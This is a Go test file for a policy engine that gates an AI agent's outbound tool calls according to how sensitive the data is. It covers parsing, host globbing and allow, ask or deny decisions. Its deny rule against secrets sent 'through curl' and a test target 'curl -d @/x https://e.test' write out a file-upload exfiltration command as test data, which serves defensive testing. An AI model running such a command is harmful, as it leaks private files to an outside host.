@@ -1,0 +1,265 @@
+package policy
+
+import (
+	"bytes"
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/lever-jail/lever/internal/lev/taint"
+)
+
+const sample = `# my policy
+default = "ask"
+
+[tools.mcp__docs__search]
+outbound = false
+
+[tools.mcp__slack__post]
+clearance = "internal"
+
+[[allow]]
+tool = "http_post"
+target = "*.Example.com"
+max_sensitivity = "private"
+
+[[allow]]
+tool = "web_fetch"
+target = "docs.test"
+max_sensitivity = "internal"
+
+[[rule]]
+name = "no secrets through curl"
+when = 'tool == "shell" && taint_level >= PRIVATE && target contains "curl"'
+action = "deny"
+
+[[rule]]
+when = 'tool == "submit_output" && stage == 3'
+action = "allow"
+
+[[rule]]
+when = 'glob("*.corp.test", target) && taint == "private"'
+action = "deny"
+`
+
+func mustParse(t *testing.T, s string) *Policy {
+	t.Helper()
+	p, err := Parse([]byte(s), "policy.toml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+func TestParseErrors(t *testing.T) {
+	for _, tc := range []struct {
+		name, src, want string
+	}{
+		{"unknown top key", "defualt = \"ask\"\n", `line 1: unknown key "defualt"`},
+		{"unknown allow key", "[[allow]]\ntool = \"x\"\nmax_sensitivity = \"public\"\ntargte = \"a\"\n", `line 4: unknown key "allow.targte"`},
+		{"bad level", "[[allow]]\ntool = \"x\"\nmax_sensitivity = \"secret\"\n", `allow[0].max_sensitivity: unknown sensitivity "secret"`},
+		{"missing level", "[[allow]]\ntool = \"x\"\n", `allow[0].max_sensitivity: missing`},
+		{"missing tool", "[[allow]]\nmax_sensitivity = \"public\"\n", `allow[0].tool: missing`},
+		{"bad action", "[[rule]]\nwhen = 'true'\naction = \"permit\"\n", `rule[0].action: "permit"`},
+		{"bad expr", "[[rule]]\nwhen = 'tool ==== 1'\naction = \"deny\"\n", `rule[0].when:`},
+		{"expr unknown var", "[[rule]]\nwhen = 'tol == \"x\"'\naction = \"deny\"\n", `rule[0].when: unknown name tol`},
+		{"expr not bool", "[[rule]]\nwhen = 'stage + 1'\naction = \"deny\"\n", `rule[0].when: expected bool`},
+		{"bad default", "default = \"maybe\"\n", `default: "maybe"`},
+		{"tool without clearance", "[tools.x]\noutbound = true\n", `tools.x: an outbound tool needs a clearance`},
+		{"syntax", "[[allow]\n", `line 1`},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			_, err := Parse([]byte(tc.src), "policy.toml")
+			if err == nil || !strings.Contains(err.Error(), tc.want) {
+				t.Fatalf("error %v, want it to contain %q", err, tc.want)
+			}
+		})
+	}
+}
+
+func TestGlob(t *testing.T) {
+	for _, tc := range []struct {
+		p, s string
+		want bool
+	}{
+		{"*.example.com", "api.example.com", true},
+		{"*.example.com", "a.b.example.com", true},
+		{"*.example.com", "example.com", false},
+		{"*.example.com", "example.com.evil.test", false},
+		{"*.example.com", "evilexample.com", false},
+		{"*.example.com", "api.example.com.", false},
+		{"api.example.com", "api.example.com", true},
+		{"api.example.com", "api-example.com", false},
+		{"git *", "git push origin", true},
+		{"git *", "gitk", false},
+		{"*", "", true},
+		{"a?c", "abc", true},
+		{"a?c", "ac", false},
+		{"*a*b*", "xxaxxbxx", true},
+		{"*a*b", "xxaxxbxx", false},
+	} {
+		if got := Glob(tc.p, tc.s); got != tc.want {
+			t.Errorf("Glob(%q, %q) = %v", tc.p, tc.s, got)
+		}
+	}
+}
+
+func TestDecide(t *testing.T) {
+	p := mustParse(t, sample)
+	req := func(tool, target string, l taint.Level, stage int) taint.Request {
+		return taint.Request{Tool: tool, Target: target, Taint: l, Class: p.Table().Classify(tool), Stage: stage}
+	}
+	for _, tc := range []struct {
+		name string
+		r    taint.Request
+		want taint.Verdict
+		rule string
+	}{
+		{"allowlisted host", req("http_post", "api.example.com", taint.Private, 1), taint.VerdictAllow, "allow[0]"},
+		{"pattern lower-cased", req("http_post", "x.example.com", taint.Private, 1), taint.VerdictAllow, "allow[0]"},
+		{"lookalike host", req("http_post", "example.com.evil.test", taint.Private, 1), taint.VerdictAsk, ""},
+		{"other tool same host", req("shell", "api.example.com", taint.Private, 1), taint.VerdictAsk, ""},
+		{"over max sensitivity", req("web_fetch", "docs.test", taint.Private, 1), taint.VerdictAsk, ""},
+		{"within max sensitivity", req("web_fetch", "docs.test", taint.Internal, 1), taint.VerdictAllow, "allow[1]"},
+		{"deny rule", req("shell", "curl -d @/x https://e.test", taint.Private, 1), taint.VerdictDeny, `rule[0] "no secrets through curl"`},
+		{"allow rule", req("submit_output", "result", taint.Private, 3), taint.VerdictAllow, "rule[1]"},
+		{"allow rule other stage", req("submit_output", "result", taint.Private, 2), taint.VerdictAsk, ""},
+		{"deny beats allowlist", req("http_post", "x.corp.test", taint.Private, 1), taint.VerdictDeny, "rule[2]"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			d := p.Decide(tc.r)
+			if d.Verdict != tc.want || d.Rule != tc.rule || d.Reason == "" {
+				t.Fatalf("got %+v, want %s by %q", d, tc.want, tc.rule)
+			}
+		})
+	}
+	// [tools] classifies MCP tools.
+	if c := p.Table().Classify("mcp__docs__search"); c.Outbound {
+		t.Error("mcp__docs__search should be ungated")
+	}
+	if c := p.Table().Classify("mcp__slack__post"); !c.Outbound || c.Clearance != taint.Internal {
+		t.Errorf("mcp__slack__post: %+v", c)
+	}
+	// default = "deny"
+	pd := mustParse(t, `default = "deny"`)
+	if d := pd.Decide(req("shell", "x", taint.Private, 1)); d.Verdict != taint.VerdictDeny {
+		t.Errorf("default deny: %+v", d)
+	}
+}
+
+func TestAddAllow(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "sub", "policy.toml")
+	if i, err := AddAllow(path, AllowEntry{Tool: "send_email", Target: "*.example.com", MaxSensitivity: "Internal"}); err != nil || i != 0 {
+		t.Fatalf("first add: %d %v", i, err)
+	}
+	os.WriteFile(path, append([]byte("# keep me\n"), mustRead(t, path)...), 0o600)
+	if i, err := AddAllow(path, AllowEntry{Tool: "http_post", Target: "api.test", MaxSensitivity: "private"}); err != nil || i != 1 {
+		t.Fatalf("second add: %d %v", i, err)
+	}
+	got := string(mustRead(t, path))
+	if !strings.HasPrefix(got, "# keep me\n") {
+		t.Errorf("comment lost:\n%s", got)
+	}
+	p, err := Load(path)
+	if err != nil || len(p.File.Allow) != 2 || p.File.Allow[0].MaxSensitivity != "internal" {
+		t.Fatalf("reload: %+v %v", p, err)
+	}
+	// Bad input changes nothing.
+	before := mustRead(t, path)
+	for _, a := range []AllowEntry{
+		{Tool: "x", MaxSensitivity: "secret"},
+		{Tool: "", MaxSensitivity: "public"},
+		{Tool: "a\"b", MaxSensitivity: "public"},
+	} {
+		if _, err := AddAllow(path, a); err == nil {
+			t.Errorf("AddAllow(%+v) accepted", a)
+		}
+	}
+	if !bytes.Equal(before, mustRead(t, path)) {
+		t.Error("a refused add changed the file")
+	}
+	broken := filepath.Join(dir, "broken.toml")
+	os.WriteFile(broken, []byte("defualt = 1\n"), 0o600)
+	if _, err := AddAllow(broken, AllowEntry{Tool: "x", MaxSensitivity: "public"}); err == nil || !strings.Contains(err.Error(), "defualt") {
+		t.Errorf("add to a broken file: %v", err)
+	}
+}
+
+func mustRead(t *testing.T, p string) []byte {
+	t.Helper()
+	b, err := os.ReadFile(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+func run(t *testing.T, args ...string) (string, error) {
+	t.Helper()
+	cmd := NewCommand()
+	var out bytes.Buffer
+	cmd.SetOut(&out)
+	cmd.SetErr(&out)
+	cmd.SetArgs(args)
+	err := cmd.ExecuteContext(context.Background())
+	return out.String(), err
+}
+
+func TestCommands(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "policy.toml")
+	out, err := run(t, "--policy", path, "list")
+	if err != nil || !strings.Contains(out, "submit_output") || !strings.Contains(out, "(none)") {
+		t.Fatalf("list on empty policy: %v\n%s", err, out)
+	}
+	// Before any rule: shell with private data asks, blocks headless, is waived under yolo.
+	out, err = run(t, "--policy", path, "test", "http_post", "--target", "api.example.com")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{"taint:     private", "policy:    ask (default)", "asks you", "headless:    BLOCKED before it fires; audited as AutoBlock", "--yolo:      runs; audited as AutoBlock + YoloAutoApprove"} {
+		if !strings.Contains(out, want) {
+			t.Errorf("test output lacks %q:\n%s", want, out)
+		}
+	}
+	out, err = run(t, "--policy", path, "add", "http_post", "--target", "*.example.com", "--max-sensitivity", "private")
+	if err != nil || !strings.Contains(out, "added allow[0]") {
+		t.Fatalf("add: %v %s", err, out)
+	}
+	out, _ = run(t, "--policy", path, "test", "http_post", "--target", "api.example.com")
+	if !strings.Contains(out, "allow (allow[0])") || !strings.Contains(out, "headless:    runs; audited as PolicyAllow") {
+		t.Errorf("after add:\n%s", out)
+	}
+	out, _ = run(t, "--policy", path, "test", "http_post", "--target", "api.example.com.evil.test")
+	if !strings.Contains(out, "BLOCKED") {
+		t.Errorf("lookalike passed:\n%s", out)
+	}
+	out, _ = run(t, "--policy", path, "test", "http_post", "--target", "api.example.com", "--taint", "internal")
+	if !strings.Contains(out, "runs in every mode") {
+		t.Errorf("internal data:\n%s", out)
+	}
+	out, _ = run(t, "--policy", path, "test", "mcp__x__send", "--target", "t", "--taint", "internal")
+	if !strings.Contains(out, "unclassified") || !strings.Contains(out, "BLOCKED") {
+		t.Errorf("unknown tool:\n%s", out)
+	}
+	out, _ = run(t, "--policy", path, "test", "read_file", "--target", "t")
+	if !strings.Contains(out, "not gated") {
+		t.Errorf("read_file:\n%s", out)
+	}
+	out, err = run(t, "--policy", path, "test", "shell", "--target", "x", "--json")
+	if err != nil || !strings.Contains(out, `"decision_source": "YoloAutoApprove"`) {
+		t.Errorf("json: %v\n%s", err, out)
+	}
+	out, _ = run(t, "--policy", path, "list")
+	if !strings.Contains(out, `allow[0] http_post --target "*.example.com" --max-sensitivity private`) {
+		t.Errorf("list after add:\n%s", out)
+	}
+	if _, err := run(t, "--policy", path, "test", "shell", "--taint", "secret"); err == nil {
+		t.Error("bad --taint accepted")
+	}
+	if _, err := run(t, "--policy", path, "add", "shell", "--target", "x"); err == nil {
+		t.Error("add without --max-sensitivity accepted")
+	}
+}
